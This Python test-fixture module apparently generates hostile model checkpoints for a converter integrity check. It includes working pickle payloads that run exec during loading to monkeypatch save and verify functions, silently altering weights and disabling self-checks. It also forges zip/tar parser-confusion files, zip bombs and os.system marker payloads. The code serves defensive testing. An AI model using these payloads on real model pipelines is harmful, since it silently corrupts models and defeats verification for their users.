"""Generators of hostile PyTorch zip checkpoints for the integrity check (DESIGN §1.8, §5).

"Silent Sabotage" (HiddenLayer, 2024): a checkpoint whose pickle runs code in the converter and
makes it write *different weights*, consistently enough to pass the converter's own reload
check. Only a second reading that never executes the artifact can catch it.

Nothing here loads anything: the functions only *write* files (``torch.save`` and ``pickle``
serialise, they never call what they write). Never ``torch.load`` these on the host; the
CONVERT path runs them inside the sandbox, the EXTRACT path may read them anywhere.

* :func:`make_sabotaged_checkpoint` - the sabotage itself.
* :func:`make_sabotaged_estimator` - the same against a scikit-learn pickle: the estimator's
  coefficients, or skl2onnx itself, altered after load.
* :func:`make_marker_checkpoint` - ``exec`` / ``os.system`` payloads whose only effect, if
  they ever ran, is to create a marker file.
* :func:`write_checkpoint` - a torch-format zip built by hand from :class:`StorageRef` /
  :class:`TensorRef` placeholders, for the malformed cases (views out of bounds, missing
  records, zip bombs, deep nesting).
"""

from __future__ import annotations

import collections
import io
import os
import pickle
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np

#: The weight the sabotage alters, and by how much (first element).
TARGET = "w"
DELTA = 1.0


def sabotage_source(target: str = TARGET, delta: float = DELTA) -> str:
    """Python run by ``exec`` inside the converter while ``torch.load(weights_only=False)``
    unpickles. It patches the names the converter looks up at write time:
    ``airlock_worker.st_torch.save_file`` (``from safetensors.torch import save_file``) to
    add ``delta`` to one element of ``target``, and ``st_torch.verify`` (the check of the
    written file, ``from .st_verify import verify``) to accept anything, so the converter's
    self-check passes. A compromised
    converter lies consistently. Silent on any failure: the attacker wants no trace."""
    return f"""
def _airlock_sabotage():
    import importlib
    st = importlib.import_module("airlock_worker.st_torch")
    original = st.save_file

    def save_file(tensors, filename, metadata=None):
        tensors = dict(tensors)
        name = {target!r} if {target!r} in tensors else sorted(tensors)[0]
        altered = tensors[name].clone()
        altered.view(-1)[0] += {delta!r}
        tensors[name] = altered
        return original(tensors, filename, metadata=metadata)

    st.save_file = save_file
    st.verify = lambda *args, **kwargs: None
    importlib.import_module("safetensors.torch").save_file = save_file

try:
    _airlock_sabotage()
except Exception:
    pass
"""


def estimator_sabotage_source(how: str) -> str:
    """Python run by ``exec`` while ``joblib.load`` unpickles an estimator: ``coef`` makes
    every LogisticRegression restored afterwards carry other coefficients (its
    ``__setstate__`` patched: the model and its ONNX agree, so parity passes); ``skl2onnx``
    makes skl2onnx's linear-classifier converter write other coefficients and silences the
    worker's parity check (a compromised converter lies consistently). Only a reading that
    never ran this code sees the stored model."""
    if how == "coef":
        return """
def _airlock_sabotage():
    from sklearn.linear_model import LogisticRegression
    original = LogisticRegression.__setstate__
    def __setstate__(self, state):
        original(self, state)
        self.__dict__["coef_"] = self.__dict__["coef_"] * 0.0 + 1.0
    LogisticRegression.__setstate__ = __setstate__
try:
    _airlock_sabotage()
except Exception:
    pass
"""
    return """
def _airlock_sabotage():
    import skl2onnx._supported_operators as ops
    from sklearn.linear_model import LogisticRegression
    alias = ops.sklearn_operator_name_map[LogisticRegression]
    from skl2onnx.common._registration import _converter_pool
    original = _converter_pool[alias]._fct
    def convert(scope, operator, container):
        model = operator.raw_operator
        saved = model.coef_
        model.coef_ = saved * 0.0 + 1.0
        try:
            original(scope, operator, container)
        finally:
            model.coef_ = saved
    _converter_pool[alias]._fct = convert
    import airlock_worker.parity
    airlock_worker.parity.check = lambda *args, **kwargs: None
try:
    _airlock_sabotage()
except Exception:
    pass
"""


def make_sabotaged_estimator(path: Path | str, how: str) -> Path:
    """A joblib file of a fitted LogisticRegression whose extra attribute, unpickled before
    the estimator's state is set, runs :func:`estimator_sabotage_source` (``how``)."""
    import joblib
    from sklearn.linear_model import LogisticRegression

    rng = np.random.default_rng(7)
    x = rng.standard_normal((60, 4))
    y = (x[:, 0] + 0.5 * x[:, 1] > 0).astype(int)
    model = LogisticRegression().fit(x, y)
    # The hook goes first in __dict__, so the pickle runs it before coef_ is restored.
    state = {"_airlock_hook": _Exec(estimator_sabotage_source(how)), **model.__dict__}
    model.__dict__.clear()
    model.__dict__.update(state)
    target = Path(path)
    target.parent.mkdir(parents=True, exist_ok=True)
    joblib.dump(model, target)
    return target


class _Exec:
    """Pickles to ``exec(source)``."""

    def __init__(self, source: str) -> None:
        self.source = source

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return (exec, (self.source,))


class _System:
    """Pickles to ``os.system(command)``."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return (os.system, (self.command,))


def make_sabotaged_checkpoint(path: Path | str,
                              legacy: bool = False) -> tuple[Path, dict[str, np.ndarray]]:
    """``torch.save({"w": ..., "b": ..., "payload": exec(SABOTAGE)})``, in the zip or
    (``legacy``) the pre-1.6 layout; returns the file and the tensors really in it (``w`` is
    what the sabotaged converter changes)."""
    import torch

    gen = torch.Generator().manual_seed(1234)
    w = torch.randn(16, 8, generator=gen)
    b = torch.randn(16, generator=gen)
    target = Path(path)
    target.parent.mkdir(parents=True, exist_ok=True)
    torch.save({"w": w, "b": b, "payload": _Exec(sabotage_source())}, target,
               _use_new_zipfile_serialization=not legacy)
    return target, {"w": w.numpy().copy(), "b": b.numpy().copy()}


def make_attribute_swap_checkpoint(path: Path | str, how: str = "parameter",
                                   legacy: bool = False) -> tuple[Path, np.ndarray, np.ndarray]:
    """A checkpoint that names no global outside torch's ``weights_only`` allowlist and
    executes nothing, yet holds two sets of weights: ``w`` is rebuilt from storage A, then
    given the attribute ``data`` = a tensor on storage B. ``torch.load`` (``weights_only`` or
    not) applies the attribute (``torch._utils._set_obj_state``: ``setattr(w, "data", B)``)
    and so loads B; a reader that skips a tensor's attributes would answer A. ``how``:
    a ``parameter`` (``_rebuild_parameter_with_state``) or a plain ``tensor`` with a
    Python attribute (``_rebuild_from_type_v2``). Returns the file, A and B."""
    import torch

    a = torch.zeros(4)
    b = torch.full((4,), 7.0)
    w = torch.nn.Parameter(a.clone()) if how == "parameter" else a.clone()
    w.__dict__["data"] = b  # pickled as the tensor's state, applied by setattr on load
    target = Path(path)
    target.parent.mkdir(parents=True, exist_ok=True)
    torch.save({"w": w}, target, _use_new_zipfile_serialization=not legacy)
    return target, a.numpy().copy(), b.numpy().copy()


def make_two_archive_checkpoint(path: Path | str) -> tuple[Path, np.ndarray, np.ndarray]:
    """Two checkpoints of the same layout, one after the other: ``w`` = A, then ``w`` = B.
    The end record is B's and names its central directory at B's own offset. CPython's
    ``zipfile`` finds the bytes before it and shifts every offset past them (B); miniz,
    which ``torch.load`` uses, reads at the offset as written, where A's directory lies (A).
    Classic end records only (``write_checkpoint``), which every reader accepts. Returns
    the file, A and B."""
    a, b = np.full(4, 1.0, dtype="<f4"), np.full(4, 2.0, dtype="<f4")
    target = Path(path)
    target.parent.mkdir(parents=True, exist_ok=True)
    parts = []
    for weights, name in ((a, "a"), (b, "b")):
        ref, storages = float_storage("0", weights)
        part = target.with_name(f"{target.name}.{name}")
        parts.append(write_checkpoint(part, {"w": TensorRef(ref, 0, (4,), (1,))},
                                      storages).read_bytes())
        part.unlink()
    target.write_bytes(b"".join(parts))
    return target, a, b


def make_marker_checkpoint(path: Path | str, marker: Path | str, via: str = "exec",
                           legacy: bool = False) -> tuple[Path, dict[str, np.ndarray]]:
    """A state dict beside a payload that would create ``marker`` if it ever ran:
    ``via="exec"`` (``builtins.exec`` of Python source) or ``"system"`` (``os.system``)."""
    import torch

    w = torch.arange(6, dtype=torch.float32).reshape(2, 3)
    payload: Any = (_Exec(f"open({str(marker)!r}, 'w').write('ran')") if via == "exec"
                    else _System(f"touch {marker}"))
    target = Path(path)
    torch.save({"w": w, "payload": payload, "nested": {"also": payload}}, target,
               _use_new_zipfile_serialization=not legacy)
    return target, {"w": w.numpy().copy()}


# -- hand-built checkpoints -------------------------------------------------------------------


@dataclass(frozen=True)
class StorageRef:
    """A storage as ``data.pkl`` names it: ``("storage", torch.<type>, key, "cpu", numel)``."""

    key: str
    numel: int
    type_name: str = "FloatStorage"


@dataclass(frozen=True)
class TensorRef:
    """Pickles to ``torch._utils._rebuild_tensor_v2(storage, offset, size, stride, False,
    OrderedDict())``, with whatever numbers it is given."""

    storage: StorageRef
    offset: int
    size: tuple[int, ...]
    stride: tuple[int, ...]

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        import torch

        return (torch._utils._rebuild_tensor_v2,
                (self.storage, self.offset, self.size, self.stride, False,
                 collections.OrderedDict()))


class _CheckpointPickler(pickle.Pickler):
    def persistent_id(self, obj: Any) -> Any:
        if isinstance(obj, StorageRef):
            import torch

            return ("storage", getattr(torch, obj.type_name), obj.key, "cpu", obj.numel)
        return None


def checkpoint_pickle(obj: Any) -> bytes:
    buf = io.BytesIO()
    _CheckpointPickler(buf, protocol=2).dump(obj)
    return buf.getvalue()


def write_checkpoint(path: Path | str, obj: Any, storages: dict[str, bytes], *,
                     compress: bool = False, byteorder: bytes | None = b"little",
                     pickle_bytes: bytes | None = None, prefix: str = "archive") -> Path:
    """A torch-format zip: ``<prefix>/data.pkl`` first (the reader takes the prefix from the
    first record), then ``byteorder``, ``data/<key>`` records and ``version``."""
    target = Path(path)
    method = zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED
    with zipfile.ZipFile(target, "w", compression=method) as zf:
        zf.writestr(f"{prefix}/data.pkl", pickle_bytes if pickle_bytes is not None
                    else checkpoint_pickle(obj))
        if byteorder is not None:
            zf.writestr(f"{prefix}/byteorder", byteorder)
        for key, data in storages.items():
            zf.writestr(f"{prefix}/data/{key}", data)
        zf.writestr(f"{prefix}/version", "3\n")
    return target


#: torch.save's legacy layout: these three pickles, the object, the key list, the storages.
LEGACY_MAGIC = 0x1950A86A20F9469CFC6C
LEGACY_SYS_INFO = {"protocol_version": 1001, "little_endian": True,
                   "type_sizes": {"short": 2, "int": 4, "long": 4}}


class _LegacyPickler(pickle.Pickler):
    """Storages as the legacy layout names them: ``("storage", type, key, "cpu", numel,
    view)``; ``view`` is None unless a test forges one."""

    def __init__(self, file: io.BytesIO, view: Any = None) -> None:
        super().__init__(file, protocol=2)
        self.view = view

    def persistent_id(self, obj: Any) -> Any:
        if isinstance(obj, StorageRef):
            import torch

            return ("storage", getattr(torch, obj.type_name), obj.key, "cpu", obj.numel,
                    self.view)
        return None


def write_legacy_checkpoint(path: Path | str, obj: Any, storages: dict[str, bytes], *,
                            keys: list[Any] | None = None, counts: dict[str, int] | None = None,
                            sys_info: Any = None, view: Any = None) -> Path:
    """A legacy (pre-1.6) checkpoint built by hand: magic, protocol, ``sys_info``, ``obj``
    (``StorageRef`` placeholders become storage ids), the key list (``keys``, default the
    storages' order), then each listed storage as its element count (``counts`` forges one)
    and its bytes."""
    buf = io.BytesIO()
    for head in (LEGACY_MAGIC, 1001, LEGACY_SYS_INFO if sys_info is None else sys_info):
        pickle.dump(head, buf, protocol=2)
    _LegacyPickler(buf, view).dump(obj)
    listed = list(storages) if keys is None else keys
    pickle.dump(listed, buf, protocol=2)
    for key in listed:
        data = storages.get(key, b"")
        count = (counts or {}).get(key, len(data) // 4)
        buf.write(count.to_bytes(8, "little", signed=True) + data)
    target = Path(path)
    target.write_bytes(buf.getvalue())
    return target


def make_tar_headed_legacy_checkpoint(path: Path | str) -> Path:
    """A legacy checkpoint whose first 512 bytes are also a valid tar header: its system-info
    dict carries a string of NULs that covers the header's numeric fields and holds the
    right checksum. ``torch.load`` tries the older tar layout first on such a file."""
    ref, storages = float_storage("0", np.arange(4, dtype="<f4"))
    obj = {"w": TensorRef(ref, 0, (4,), (1,))}
    pad = "\0" * 480  # first in the dict, so that it starts within the header's name field
    target = write_legacy_checkpoint(path, obj, storages, sys_info={"pad": pad, **LEGACY_SYS_INFO})
    block = bytearray(target.read_bytes()[:512])
    string = block.index(b"X" + len(pad).to_bytes(4, "little")) + 5  # BINUNICODE, length
    at = 148 - string  # the checksum field, within the string
    block[148:156] = b" " * 8  # as tar sums it; the digits that go there are not summed
    pad = pad[:at] + (b"%06o\0 " % sum(block)).decode() + pad[at + 8:]
    return write_legacy_checkpoint(path, obj, storages, sys_info={"pad": pad, **LEGACY_SYS_INFO})


def float_storage(key: str, values: np.ndarray) -> tuple[StorageRef, dict[str, bytes]]:
    arr = np.ascontiguousarray(values, dtype="<f4")
    return StorageRef(key, arr.size), {key: arr.tobytes()}


def make_out_of_bounds_checkpoint(path: Path | str, how: str) -> Path:
    """A 3x4 view of a 10-float storage (``how="size"``), a view past its end
    (``"offset"``), a stride that walks off it (``"stride"``), or a negative stride."""
    ref, data = float_storage("0", np.arange(10, dtype=np.float32))
    view = {
        "size": TensorRef(ref, 0, (3, 4), (4, 1)),
        "offset": TensorRef(ref, 8, (3,), (1,)),
        "stride": TensorRef(ref, 0, (2, 2), (9, 1)),
        "negative": TensorRef(ref, 9, (3,), (-1,)),
    }[how]
    return write_checkpoint(path, {"w": view}, data)


def make_missing_storage_checkpoint(path: Path | str) -> Path:
    ref, _ = float_storage("0", np.zeros(4, dtype=np.float32))
    return write_checkpoint(path, {"w": TensorRef(ref, 0, (4,), (1,))}, {})


def make_zip_bomb_checkpoint(path: Path | str, megabytes: int = 64) -> Path:
    """One deflated storage record of zeros: ~1000:1, far beyond any real checkpoint."""
    numel = megabytes * 1024 * 1024 // 4
    ref = StorageRef("0", numel)
    return write_checkpoint(path, {"w": TensorRef(ref, 0, (numel,), (1,))},
                            {"0": bytes(numel * 4)}, compress=True)


def make_deep_checkpoint(path: Path | str, depth: int) -> tuple[Path, dict[str, np.ndarray]]:
    """``{"w": tensor, "deep": {"x": {"x": ... {"v": tensor}}}}`` nested ``depth`` levels,
    built in the pickle by hand (``pickle`` itself would recurse that deep)."""
    ref, data = float_storage("0", np.arange(4, dtype=np.float32))
    inner = checkpoint_pickle({"v": TensorRef(ref, 0, (4,), (1,))})
    w = checkpoint_pickle(TensorRef(ref, 0, (2,), (1,)))
    # PROTO 2 | } (EMPTY_DICT) "w" <tensor> s (SETITEM) "deep" {"x": ... <inner>} s .
    body_inner = inner[2:-1]  # drop PROTO and STOP
    body_w = w[2:-1]
    key_x = b"X" + len(b"x").to_bytes(4, "little") + b"x"
    nested = (b"}" + key_x) * depth + body_inner + b"s" * depth
    out = (b"\x80\x02}" + b"X\x01\x00\x00\x00w" + body_w + b"s"
           + b"X\x04\x00\x00\x00deep" + nested + b"s.")
    target = write_checkpoint(path, None, data, pickle_bytes=out)
    return target, {"w": np.arange(2, dtype=np.float32)}
